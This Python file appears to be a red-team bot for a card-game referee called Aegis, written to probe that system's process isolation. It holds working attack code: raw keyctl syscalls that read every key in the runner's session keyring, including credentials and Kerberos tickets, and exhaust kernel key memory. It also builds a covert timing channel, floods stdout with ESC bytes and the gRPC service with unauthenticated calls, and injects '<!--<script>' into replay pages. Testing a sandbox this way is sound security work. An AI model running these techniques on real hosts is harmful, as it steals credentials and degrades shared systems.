"""A hostile Aegis entrant of the red team's fourth round: what it tries (``--attack``, repeatable).

Under isolation = "match" no two processes of one bot run it at once. Two things outlive a
process all the same, and its next process, the twin of its match (the same deals, the seats
swapped: what it held is its opponent's hand there), reads them:

- ``keyring``: every launched process inherits the runner's **session keyring** (a login with
  pam_keyinit, a systemd service with its default ``KeyringMode=private``, ``keyctl session``:
  the runner has one, and bubblewrap keeps it). ``add_key`` and ``keyctl`` are not refused, and
  a key added to it outlives its process. In the first match of a deal set (its seat 0) it adds a
  key per deal holding its hand; in the twin (seat 1) it searches for them (``LEARNED`` with
  ``via`` "keyring"). It also lists the keyring, which is the runner's, and reads every key it
  can (``FOUND``: the organiser's own keys, a Kerberos ticket, a token a tool keeps there), and
  adds 32 KB keys until the kernel refuses (``HELD``: memory outside its address space and every
  file system, left on the host after it and after the run).
- ``clock``: **when its next process starts**. The runner starts a bot's next process as soon as
  the last one is gone, and a process chooses when it goes (within the 1 s grace after its last
  GameEnd). Wall time is every process's: the sender exits at a wall-clock phase (modulo
  PERIOD) that encodes ``--levels`` values, and the twin reads the phase of its own start. The
  runner's own delay from one to the other is measured on the way: every receiver exits at phase
  0 (a pilot), and the next sender takes the phase of its own start as that delay and exits that
  much early. It sends the index of its first card of deal 1 modulo ``--levels`` (``LEARNED`` with
  ``via`` "clock": the value read; ``SENT`` lines; ``EXIT``: when each process started and ended).
- ``flood``: it writes ESC bytes to stdout as fast as the pipe takes them: the runner escapes
  every byte (``\\x1b``, four for one) in its own process, past the log's cap too, outside the
  bot's CPU share (measured, not tested: the victim's decisions slow down, none times out).
- ``calls``: child processes call ListGames without a token, 3,072 calls at once through its
  door, again and again: the referee refuses each, in the runner's one event loop (measured, not
  tested: the victim's slowest decision some 100-250 ms against 5 ms, none over the clock).
- ``comment``: its first answer of every match is the text ``<!--<script>`` (a malformed answer,
  for which the referee plays the first legal action: its opponent's game is the same). The
  fault's detail quotes it, and a replay page embeds the details in a ``<script>`` element's JSON:
  there ``<!--<script>`` makes the HTML parser take the rest of the page as script text.

It always plays the first legal action (what the referee plays for it when it faults), so its
opponent's games are the same whatever it learns. ``--honest`` only plays (the control run).
"""

from __future__ import annotations

import time

T0 = time.time()  # the process's start, as near as a Python bot reads it

import argparse  # noqa: E402
import ctypes  # noqa: E402
import json  # noqa: E402
import os  # noqa: E402

from referee.bot import run_bot  # noqa: E402

parser = argparse.ArgumentParser(add_help=False, allow_abbrev=False)
parser.add_argument("--honest", action="store_true")
parser.add_argument("--attack", action="append", default=[], choices=["keyring", "clock", "comment", "flood", "calls"])
parser.add_argument("--levels", type=int, default=4)  # values a start's phase carries (clock)
mine, kit_args = parser.parse_known_args()
HONEST, ATTACKS = mine.honest, set(mine.attack)
RANKS, SUITS = "23456789TJQKA", "SHDC"
CARDS = [r + s for s in SUITS for r in RANKS]
COMMENT = "<!--<script>"


def report(kind: str, **what) -> None:
    print(f"{kind} " + json.dumps(what), flush=True)


# --- the session keyring --------------------------------------------------------------------------

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
SESSION = -3  # KEY_SPEC_SESSION_KEYRING
DESCRIBE, SEARCH, READ = 6, 10, 11
PREFIX = "redteam"


def add_key(description: str, payload: bytes) -> bool:
    return libc.syscall(ADD_KEY, b"user", description.encode(), payload, ctypes.c_size_t(len(payload)),
                        ctypes.c_int(SESSION)) > 0


def read_key(key: int, size: int = 65536) -> bytes | None:
    buffer = ctypes.create_string_buffer(size)
    n = libc.syscall(KEYCTL, READ, ctypes.c_int(key), buffer, ctypes.c_size_t(size))
    return None if n < 0 else buffer.raw[:min(n, size)]


def describe_key(key: int) -> str | None:
    buffer = ctypes.create_string_buffer(4096)
    n = libc.syscall(KEYCTL, DESCRIBE, ctypes.c_int(key), buffer, ctypes.c_size_t(4096))
    return None if n < 0 else buffer.value.decode(errors="replace")


def search_key(description: str) -> bytes | None:
    key = libc.syscall(KEYCTL, SEARCH, ctypes.c_int(SESSION), b"user", description.encode(), 0)
    return None if key < 0 else read_key(key)


def read_keyring() -> None:
    """Every key of its session keyring that it can read, but its own (a keyring's payload: its keys' ids)."""
    ring = read_key(SESSION) or b""
    for i in range(0, len(ring) - 3, 4):
        key = int.from_bytes(ring[i:i + 4], "little")
        what = describe_key(key)
        if what is not None and PREFIX not in what:
            value = read_key(key)
            report("FOUND", key=what, value=None if value is None else value.decode(errors="replace"))


def hold_keys() -> None:
    chunk, held = os.urandom(32000), 0
    while held < 2000 and add_key(f"{PREFIX}-hold-{held}", chunk):
        held += 1
    report("HELD", bytes=held * len(chunk), keys=held, stopped_by=os.strerror(ctypes.get_errno()))


# --- the clock ------------------------------------------------------------------------------------

PERIOD, LEVELS = 0.8, mine.levels  # seconds (within the 1 s grace); values a start's phase carries
STEP = PERIOD / LEVELS
DELAY_GUESS = 0.1  # the runner's delay from one process's end to the next one's start, before any pilot
exit_phase: float | None = None  # when this process is to end, modulo PERIOD


def phase(t: float) -> float:
    return t % PERIOD


def clock(deal_set: int, seat: int, hand: list[str], game_id: str) -> None:
    global exit_phase
    if seat == 0:  # the sender: its predecessor was a receiver (its pilot: phase 0), or the start-up check
        delay = phase(T0) if deal_set > 0 else DELAY_GUESS
        value = CARDS.index(hand[0]) % LEVELS
        exit_phase = phase(value * STEP - delay)
        report("SENT", via="clock", game_id=game_id, value=value, delay=round(delay, 4))
    else:  # the twin: its start's phase is the value
        value = round(phase(T0) / STEP) % LEVELS
        report("LEARNED", via="clock", game_id=game_id, deal=1, value=value, phase=round(phase(T0), 4))
        exit_phase = 0.0


# --- the bot --------------------------------------------------------------------------------------

done: set[tuple[str, int]] = set()
answered: set[str] = set()


def decide(obs, legal, game):
    if HONEST:
        return 0
    if "comment" in ATTACKS and game.game_id not in answered:
        answered.add(game.game_id)
        return COMMENT
    deal_set = int(game.game_id.split(":")[0].split("/")[-1])
    deal, seat = obs["game_number"], obs["seat"]
    if (game.game_id, deal) in done:
        return 0
    first = not done
    done.add((game.game_id, deal))
    hand = next(ev["data"]["cards"] for ev in game.events
                if ev["kind"] == "hand" and ev["actor"] == seat and ev["data"]["game"] == deal)
    if "keyring" in ATTACKS:
        if first:
            read_keyring()
            hold_keys()
        name = f"{PREFIX}:{deal_set}:{deal}"
        if seat == 0:
            add_key(name, json.dumps(hand).encode())
        else:
            found = search_key(name)
            report("LEARNED", via="keyring", game_id=game.game_id, deal=deal,
                   opponent_hand=None if found is None else json.loads(found))
    if "clock" in ATTACKS and deal == 1:
        clock(deal_set, seat, hand, game.game_id)
    return 0


def flood() -> None:
    """Its output, as fast as a pipe takes it: bytes the runner must escape, one by one."""
    chunk = b"\x1b" * 65536
    while True:
        os.write(1, chunk)


CALLERS, CHANNELS = 4, 3  # processes, and channels each: within its door's 16 connections


def calls() -> None:
    """Calls the referee refuses (ListGames without a token), as many at once as its door lets
    through, again and again: each costs the runner's one event loop a little work."""
    import asyncio

    import grpc

    from referee.v1 import referee_pb2 as pb
    from referee.v1 import referee_pb2_grpc as pb_grpc

    address = kit_args[kit_args.index("--address") + 1]

    async def caller(stub) -> None:
        while True:
            try:
                await stub.ListGames(pb.ListGamesRequest())
            except grpc.RpcError:
                pass

    async def main() -> None:
        channels = [grpc.aio.insecure_channel(address) for _ in range(CHANNELS)]
        await asyncio.gather(*(caller(pb_grpc.RefereeStub(c)) for c in channels for _ in range(256)))

    for _ in range(CALLERS - 1):  # processes of its own, each with its channels
        if os.fork() == 0:
            break
    asyncio.run(main())


if __name__ == "__main__":
    if "calls" in ATTACKS and os.fork() == 0:
        calls()
    if "flood" in ATTACKS:
        import threading

        threading.Thread(target=flood, daemon=True).start()
    run_bot(decide, kit_args, default_name="entrant")
    if exit_phase is not None:  # its session is over: it ends when the phase says (within the grace)
        time.sleep((exit_phase - phase(time.time())) % PERIOD)
        report("EXIT", start=T0, at=time.time())  # (the runner's delay to the next start: figures.py)
    os._exit(0)
